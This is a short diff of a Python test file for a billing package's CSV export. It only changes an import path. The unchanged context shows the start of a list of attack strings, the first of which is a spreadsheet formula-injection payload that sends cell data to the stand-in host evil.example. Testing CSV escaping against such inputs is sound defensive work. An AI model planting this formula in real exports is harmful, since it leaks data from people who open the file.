@@ -9,7 +9,7 @@ from typing import Any
 
 import pytest
 
-from shuidian_billing.statements import csv_cell, to_csv
+from shuidian_billing.adapters.statements import csv_cell, to_csv
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
